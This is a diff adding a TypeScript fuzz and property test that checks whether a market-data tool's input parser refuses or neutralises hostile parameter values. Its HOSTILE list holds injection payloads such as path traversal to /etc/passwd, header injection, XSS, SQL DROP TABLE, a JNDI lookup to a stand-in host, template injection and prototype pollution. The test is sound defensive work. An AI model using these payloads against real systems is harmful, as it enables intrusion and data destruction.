@@ -1,0 +1,134 @@
+/** Every parameter of every capability against values that nobody means well with. */
+import * as fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { CATALOGUE } from "../src/catalogue.js";
+import type { Capability } from "../src/contract/capability.js";
+import { MarketDataError } from "../src/contract/errors.js";
+import { parseInput } from "../src/contract/input.js";
+
+const CAPABILITIES = CATALOGUE.map(({ capability }) => capability);
+
+const HOSTILE: readonly unknown[] = [
+  "",
+  " ",
+  "\t",
+  "../../etc/passwd",
+  "AAPL/../x",
+  "AAPL%2F..",
+  "..",
+  "A..B",
+  "AAPL?x=1",
+  "AAPL#x",
+  "AAPL;x",
+  "AAPL,MSFT",
+  "AAPL MSFT",
+  "AAPL\r\nX-Evil: 1",
+  "AAPL\u0000",
+  "\u001B[31mAAPL",
+  "＜script＞",
+  "<script>alert(1)</script>",
+  "' OR 1=1 --",
+  '"; DROP TABLE stocks; --',
+  "${jndi:ldap://evil.example.test/x}",
+  "{{7*7}}",
+  "ＡＡＰＬ",
+  "ААPL",
+  "ſ",
+  "ı",
+  "\u202EAAPL",
+  "\u200BAAPL",
+  "AAPL\uD800",
+  "👾",
+  "a".repeat(10_000),
+  ",".repeat(10_000),
+  "^".repeat(10_000),
+  " ".repeat(10_000),
+  "[".repeat(10_000),
+  "1,000",
+  "0x1F",
+  "٣",
+  0,
+  -1,
+  1.5,
+  1e9,
+  -0,
+  Number.NaN,
+  Number.POSITIVE_INFINITY,
+  Number.MAX_VALUE,
+  null,
+  true,
+  [],
+  ["AAPL"],
+  {},
+  { toString: "AAPL" },
+  { __proto__: { polluted: true } },
+];
+
+/** What a capability makes of raw parameters: its input, or its refusal. */
+function parse(capability: Capability, raw: Record<string, unknown>): Record<string, unknown> | MarketDataError {
+  try {
+    return parseInput(capability, raw, capability.tool.extras);
+  } catch (error) {
+    if (error instanceof MarketDataError && error.kind === "invalid_input") return error;
+    throw error;
+  }
+}
+
+const SYMBOL = /^\^?[A-Z0-9](?!.*\.\.)[A-Z0-9.\-=&]{0,23}$/;
+/** Text that a person may mean: short, without control characters. */
+const WORDS = /^[^\u0000-\u001F\u007F]{1,100}$/; // oxlint-disable-line no-control-regex
+
+function expectHarmless(input: Record<string, unknown>): void {
+  for (const [name, value] of Object.entries(input)) {
+    if (name === "random_string" || value === undefined) continue;
+    if (typeof value === "number") expect(Number.isFinite(value)).toBe(true);
+    else expect(value).toMatch(name === "symbol" ? SYMBOL : WORDS);
+  }
+}
+
+/** A refusal is one printable line that does not grow with what came. */
+function expectReadable({ message }: MarketDataError): void {
+  expect(message).toMatch(/^[\x20-\x7E]{1,800}$/);
+}
+
+const ORDINARY: Record<string, unknown> = { symbol: "AAPL", q: "apple", random_string: "x" };
+
+describe("hostile input", () => {
+  const parameters = CAPABILITIES.flatMap((capability) =>
+    Object.keys({ ...capability.input.shape, ...capability.tool.extras }).map(
+      (name) => [capability.name, name, capability] as const,
+    ),
+  );
+
+  /** Asks the capability's ordinary question with one parameter replaced. */
+  function expectNoHarm(capability: Capability, name: string, value: unknown): void {
+    const known = Object.keys({ ...capability.input.shape, ...capability.tool.extras });
+    const ordinary = Object.fromEntries(known.filter((each) => each in ORDINARY).map((each) => [each, ORDINARY[each]]));
+    const outcome = parse(capability, { ...ordinary, [name]: value });
+    if (outcome instanceof MarketDataError) expectReadable(outcome);
+    else expectHarmless(outcome);
+  }
+
+  it.each(parameters)("to %s as %s is refused or harmless", (_capability, name, capability) => {
+    for (const value of HOSTILE) expectNoHarm(capability, name, value);
+    expect("polluted" in {}).toBe(false);
+  });
+
+  it.each(parameters)("to %s as %s is refused or harmless, whatever it is", (_capability, name, capability) => {
+    const values = fc.oneof(fc.anything(), fc.string({ unit: "binary" }));
+    const property = fc.property(values, (value) => expectNoHarm(capability, name, value));
+    expect(fc.check(property, { numRuns: 400 })).toMatchObject({ failed: false });
+  });
+
+  it.each(CAPABILITIES.map((capability) => [capability.name, capability] as const))(
+    "under an unknown name is refused by %s",
+    (_name, capability) => {
+      for (const name of ["pe_max", "__proto__", "constructor", "apikey", "x\r\ny", "a".repeat(10_000)]) {
+        const raw = Object.defineProperty({}, name, { value: "x", enumerable: true });
+        const outcome = parse(capability, raw);
+        expect(outcome).toBeInstanceOf(MarketDataError);
+        expectReadable(outcome as MarketDataError);
+      }
+    },
+  );
+});
